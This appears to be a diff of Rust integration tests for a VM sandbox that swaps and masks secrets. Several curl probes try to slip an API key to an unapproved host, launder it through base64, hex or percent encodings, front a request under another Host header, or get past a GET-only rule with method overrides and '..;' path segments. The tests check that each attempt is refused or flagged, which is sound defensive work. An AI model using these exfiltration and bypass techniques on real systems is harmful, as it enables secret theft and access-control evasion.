@@ -866,7 +866,7 @@ fn threat6_threat12_secret_reaches_only_its_host_and_never_the_vm() {
 p env-key sh -c 'echo "$API_KEY"'
 p swap curl -sS --fail -H "Authorization: Bearer $API_KEY" https://{API}:{p}/v1/swap
 p tunnel-swap curl -sS --fail --noproxy '*' -H "Authorization: Bearer $API_KEY" https://{API}:{p}/v1/tunnel-swap
-p reflect curl -sS -i --fail -H "X-Token: $API_KEY" https://{API}:{p}/reflect/x-token
+p reflect curl -sS -i --fail -H "Authorization: $API_KEY" https://{API}:{p}/reflect/authorization
 p cross-secret curl -sS --fail -H "Authorization: Bearer $OTHER_KEY" https://{API}:{p}/v1/cross
 p to-other curl -sS --fail -H "Authorization: Bearer $API_KEY" https://{OTHER}:{p}/v1/to-other
 p plaintext curl -sS --fail -H "Authorization: Bearer $API_KEY" http://{API}:{hp}/v1/plaintext
@@ -938,7 +938,7 @@ read resume
     assert_eq!(auth_at("/v1/swap"), format!("Bearer {real}"));
     assert_eq!(auth_at("/v1/tunnel-swap"), format!("Bearer {real}"));
     assert_eq!(
-        requests_at(&net, "/reflect/x-token")[0].header("x-token"),
+        requests_at(&net, "/reflect/authorization")[0].header("authorization"),
         Some(real.as_str())
     );
     // ... and echoes of it come back masked.
@@ -1019,7 +1019,8 @@ read resume
     flagged("/v1/plaintext", "placeholder_over_plaintext:API_KEY");
     flagged("/v1/plain-other", "possible_exfiltration:API_KEY");
     flagged("/v1/url", "placeholder_in_url_not_swapped:API_KEY");
-    flagged("/v1/swap", "masked_in_response:API_KEY");
+    flagged("/v1/swap", "masked_in_response:API_KEY:literal");
+    flagged("/v1/body", "placeholder_in_body_not_swapped:API_KEY");
     let swap = o
         .audit
         .iter()
@@ -1873,7 +1874,7 @@ p env-setup printenv SETUP_TOKEN
 p env-agent printenv AGENT_TOKEN
 p setup-token cat /root/setup-token
 p setup-echo cat /root/setup-echo.json
-p agent-call curl -sS --fail -H "Authorization: Bearer $(cat /root/setup-token)" -H "X-Agent: $AGENT_TOKEN" https://{TOKEN_HOST}:{p}/agent-call
+p agent-call curl -sS --fail -H "X-Setup: Bearer $(cat /root/setup-token)" -H "Authorization: $AGENT_TOKEN" https://{TOKEN_HOST}:{p}/agent-call
 "#
         ));
     assert_eq!(o.code, Some(0), "{}", o.dump());
@@ -1893,8 +1894,8 @@ p agent-call curl -sS --fail -H "Authorization: Bearer $(cat /root/setup-token)"
     assert_eq!(during_setup.header("authorization"), Some(format!("Bearer {setup_real}").as_str()), "swapped during setup");
     assert_eq!(during_setup.header("x-agent"), Some(agent_ph.as_str()), "the agent's secret is not swapped during setup");
     let after = seen("/agent-call");
-    assert_eq!(after.header("authorization"), Some(format!("Bearer {setup_ph}").as_str()), "not swapped after setup");
-    assert_eq!(after.header("x-agent"), Some(agent_real.as_str()), "the agent's own secret is swapped");
+    assert_eq!(after.header("x-setup"), Some(format!("Bearer {setup_ph}").as_str()), "not swapped after setup");
+    assert_eq!(after.header("authorization"), Some(agent_real.as_str()), "the agent's own secret is swapped");
     assert!(
         o.ok("setup-echo").contains(&setup_ph) && !o.ok("setup-echo").contains(&setup_real),
         "the echo to setup was masked: {}",
@@ -1917,4 +1918,232 @@ p agent-call curl -sS --fail -H "Authorization: Bearer $(cat /root/setup-token)"
     let r = request("/agent-call");
     assert_eq!((r["phase"].as_str(), r["secrets"][0].as_str()), (Some("agent"), Some("AGENT_TOKEN")), "{r}");
     assert!(flags(r).contains(&"placeholder_out_of_phase:SETUP_TOKEN".to_string()), "{r}");
+}
+
+/// True when `text` gives back at least half of `value` in any way a guest could decode it:
+/// as it is (any case), from base64 or URL-safe base64 at any offset, from hex, from percent or
+/// `\u` escapes.
+fn leaks(text: &str, value: &str) -> bool {
+    use base64::Engine;
+    let mut forms: Vec<Vec<u8>> = vec![text.as_bytes().to_vec()];
+    for word in text.split(|c: char| c.is_whitespace() || c == '"') {
+        for skip in 0..4 {
+            let t = word.get(skip..).unwrap_or("").trim_end_matches('=');
+            let t = &t[..t.len() / 4 * 4];
+            for e in [
+                base64::engine::general_purpose::STANDARD_NO_PAD,
+                base64::engine::general_purpose::URL_SAFE_NO_PAD,
+            ] {
+                if let Ok(d) = e.decode(t) {
+                    forms.push(d);
+                }
+            }
+        }
+        let hexdigits: Vec<u8> = word
+            .bytes()
+            .filter_map(|b| (b as char).to_digit(16).map(|d| d as u8))
+            .collect();
+        if hexdigits.len() == word.len() && word.len() % 2 == 0 {
+            forms.push(hexdigits.chunks(2).map(|c| c[0] * 16 + c[1]).collect());
+        }
+    }
+    let unescaped = text.replace("\\u00", "%");
+    let b = unescaped.as_bytes();
+    let mut pct = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        let hex = b
+            .get(i + 1..i + 3)
+            .and_then(|h| std::str::from_utf8(h).ok())
+            .and_then(|h| u8::from_str_radix(h, 16).ok());
+        match (b[i], hex) {
+            (b'%', Some(v)) => {
+                pct.push(v);
+                i += 3;
+            }
+            (c, _) => {
+                pct.push(c);
+                i += 1;
+            }
+        }
+    }
+    forms.push(pct);
+    let half = &value.as_bytes()[value.len() / 4..value.len() / 4 + value.len() / 2];
+    forms
+        .iter()
+        .any(|f| f.windows(half.len()).any(|w| w.eq_ignore_ascii_case(half)))
+}
+
+const RULED: &str = "ruled.example.test";
+
+/// Classes 17 and 19 from inside a VM. Class 17 (secret laundering through the bound host): the
+/// host reflects the swapped Authorization header back in base64 (each alignment), URL-safe
+/// base64, hex, percent and JSON escapes and the status line, and the guest can decode none of
+/// them (each masking audited with its encoding); a gzip reflection is refused; a value the
+/// policy lets be swapped into bodies under `/store/` is stored there and read back masked over
+/// TLS and plain HTTP, and `Range` reads are refused; a secret scoped to `/v1/` is not swapped on
+/// `/v2/`. Class 19: method overrides and `;` dot segments do not pass a GET-only `/ok/` rule.
+#[test]
+fn class_17_class_19_laundering_and_request_semantics_from_a_vm() {
+    let net = TestNet::start().expect("testnet");
+    let (p, hp) = (net.https_port(), net.http_port());
+    let key = format!("sk-Key{}Z", random_hex(20));
+    let stored = format!("st-Stored{}Q", random_hex(20));
+    let scoped = format!("sc-Scoped{}W", random_hex(20));
+    let policy = net.dir().join("laundering.toml");
+    std::fs::write(
+        &policy,
+        format!(
+            r#"
+allow = ["{API}:{p}", "{API}:{hp}", {{ host = "{RULED}", ports = [{p}], methods = ["GET"], paths = ["/ok/"] }}]
+resolve = ["{API}:{p}:127.0.0.1", "{API}:{hp}:127.0.0.1", "{RULED}:{p}:127.0.0.1"]
+upstream_ca = ["{ca}"]
+[secrets.STORED]
+hosts = ["{API}:{p}/store/"]
+in_body = true
+"#,
+            ca = net.ca_file().display()
+        ),
+    )
+    .expect("write policy");
+    let reflect = |name: &str, enc: &str, pad: u32| {
+        format!(
+            "p {name} curl -sS --fail -H \"Authorization: $KEY\" 'https://{API}:{p}/reflect-enc/{enc}/authorization?pad={pad}'\n"
+        )
+    };
+    let mut script = String::new();
+    for (name, enc, pad) in [
+        ("b64-0", "base64", 0),
+        ("b64-1", "base64", 1),
+        ("b64-2", "base64", 2),
+        ("b64url-1", "base64url", 1),
+        ("hex", "hex", 0),
+        ("hex-upper", "HEX", 1),
+        ("percent", "percent", 0),
+        ("json", "json", 0),
+    ] {
+        script.push_str(&reflect(name, enc, pad));
+    }
+    script.push_str(&format!(
+        r#"p status sh -c 'curl -sS -i -H "Authorization: $KEY" https://{API}:{p}/reflect-status/authorization | head -1'
+p gzip curl -sS --fail-with-body --compressed -H "Authorization: $KEY" https://{API}:{p}/reflect-enc/gzip/authorization
+p store curl -sS --fail -d "v=$STORED;" https://{API}:{p}/store/k1
+p read curl -sS --fail https://{API}:{p}/store/k1
+p read-plain curl -sS --fail http://{API}:{hp}/store/k1
+p read-range curl -sS --fail-with-body -r 2-6 https://{API}:{p}/store/k1
+p scoped-in curl -sS --fail -H "Authorization: $SCOPED" https://{API}:{p}/v1/in
+p scoped-out curl -sS --fail -H "Authorization: $SCOPED" https://{API}:{p}/v2/out
+p ruled-ok curl -sS --fail https://{RULED}:{p}/ok/fine
+p override curl -sS --fail-with-body -H 'X-HTTP-Method-Override: DELETE' https://{RULED}:{p}/ok/x
+p method-param curl -sS --fail-with-body "https://{RULED}:{p}/ok/x?_method=DELETE"
+p semicolon curl -sS --fail-with-body --path-as-is "https://{RULED}:{p}/ok/..;/secret"
+p jsession curl -sS --fail-with-body --path-as-is "https://{RULED}:{p}/ok/..;jsessionid=1/secret"
+"#
+    ));
+    let policy_arg = policy.display().to_string();
+    let o = Vm::new(&net)
+        .args(&["--policy", &policy_arg])
+        .args(&["--secret", &format!("KEY@{API}"), "--secret", &format!("SCOPED@{API}:{p}/v1/")])
+        .env("KEY", &key)
+        .env("STORED", &stored)
+        .env("SCOPED", &scoped)
+        .run(&script);
+    assert_eq!(o.code, Some(0), "{}", o.dump());
+    for probe in ["b64-0", "b64-1", "b64-2", "b64url-1", "hex", "hex-upper", "percent", "json", "status"] {
+        let out = o.ok(probe);
+        assert!(!leaks(out, &key), "{probe} hands the guest the value: {out}");
+    }
+    assert_eq!(o.ok("status").trim(), "HTTP/1.1 200 OK");
+    assert!(
+        requests_at(&net, "/reflect-enc/hex/authorization?pad=0")[0].header("authorization")
+            == Some(key.as_str()),
+        "the host really got the value"
+    );
+    o.refused_with("gzip", "Content-Encoding gzip");
+    assert!(o.ok("read").contains("hutch-ph-STORED-") && !leaks(o.ok("read"), &stored), "{}", o.ok("read"));
+    assert!(!leaks(o.ok("read-plain"), &stored), "{}", o.ok("read-plain"));
+    assert!(requests_at(&net, "/store/k1")[0].body.contains(&stored), "the store holds the real value");
+    o.refused_with("read-range", "Range requests are refused");
+    assert_eq!(
+        requests_at(&net, "/v1/in")[0].header("authorization"),
+        Some(scoped.as_str())
+    );
+    assert!(requests_at(&net, "/v2/out")[0].header("authorization").is_some_and(|v| v.starts_with("hutch-ph-SCOPED-")));
+    assert!(o.ok("ruled-ok").contains("/ok/fine"));
+    for probe in ["override", "method-param", "semicolon", "jsession"] {
+        o.refused_with(probe, "403");
+    }
+    assert!(
+        net.requests().iter().all(|s| !s.path.contains("secret") && !s.path.starts_with("/ok/x")),
+        "a class 19 bypass reached the test net"
+    );
+
+    let flags: Vec<String> = o
+        .audit
+        .iter()
+        .flat_map(|r| r["flags"].as_array().cloned().unwrap_or_default())
+        .filter_map(|f| f.as_str().map(str::to_string))
+        .collect();
+    for want in [
+        "masked_in_response:KEY:base64",
+        "masked_in_response:KEY:hex",
+        "masked_in_response:KEY:escaped",
+        "masked_in_status_line:KEY:literal",
+        "encoded_response_refused",
+        "masked_in_response:STORED:literal",
+        "placeholder_out_of_scope:SCOPED",
+    ] {
+        assert!(flags.iter().any(|f| f == want), "{want} not audited: {flags:?}");
+    }
+    for (what, text) in [("stdout", &o.stdout), ("stderr", &o.stderr), ("audit", &o.audit_text())] {
+        for v in [&key, &stored, &scoped] {
+            assert!(!text.contains(v.as_str()), "hutch's {what} holds a real value");
+        }
+    }
+}
+
+/// Classes 6, 5 and 13 with `--inspect-all` from inside a VM: TLS to an allowed host without
+/// secrets is terminated too (its certificate is the sandbox CA's), so a placeholder sent there,
+/// in a header or a streamed body, is seen and flagged; SNI of that host with the Host of
+/// another is refused (421) and reaches nothing.
+#[test]
+fn class_6_class_5_class_13_inspect_all_sees_every_allowed_host() {
+    let net = TestNet::start().expect("testnet");
+    let p = net.https_port();
+    let key = format!("sk-All{}Z", random_hex(20));
+    let script = format!(
+        r#"
+p leak-header curl -sS --fail -H "Authorization: Bearer $KEY" https://{ECHO}:{p}/leak-h
+p leak-body sh -c 'head -c 100000 /dev/zero | tr "\0" a > /root/big; printf "%s" "$KEY" >> /root/big; curl -sS --fail --data-binary @/root/big https://{ECHO}:{p}/leak-b'
+p front curl -sS --fail-with-body -H 'Host: {API}:{p}' https://{ECHO}:{p}/fronted
+p issuer sh -c 'curl -sS -v -o /dev/null https://{ECHO}:{p}/issuer 2>&1 | grep -i "issuer:"'
+p swap curl -sS --fail -H "Authorization: $KEY" https://{API}:{p}/v1/swap
+"#
+    );
+    let o = Vm::new(&net)
+        .https(ECHO)
+        .https(API)
+        .upstream_ca()
+        .args(&["--inspect-all", "--secret", &format!("KEY@{API}")])
+        .env("KEY", &key)
+        .run(&script);
+    assert_eq!(o.code, Some(0), "{}", o.dump());
+    assert!(o.ok("issuer").contains("Hutch sandbox"), "{}", o.ok("issuer"));
+    o.refused_with("front", "421");
+    assert!(requests_at(&net, "/fronted").is_empty(), "the fronted request reached the net");
+    assert!(requests_at(&net, "/leak-h")[0].contains("hutch-ph-KEY-"), "sent as it is, not swapped");
+    assert_eq!(requests_at(&net, "/v1/swap")[0].header("authorization"), Some(key.as_str()));
+    for path in ["/leak-h", "/leak-b"] {
+        let rec = o
+            .audit
+            .iter()
+            .find(|r| r["event"] == "request" && r["path"] == path)
+            .unwrap_or_else(|| panic!("no record for {path}: {}", o.audit_text()));
+        assert_eq!(rec["mode"], "tls_intercept", "{rec}");
+        assert!(
+            rec["flags"].as_array().is_some_and(|f| f.iter().any(|x| x == "possible_exfiltration:KEY")),
+            "{path} not flagged: {rec}"
+        );
+    }
+    assert!(!o.stdout.contains(&key) && !o.audit_text().contains(&key));
 }
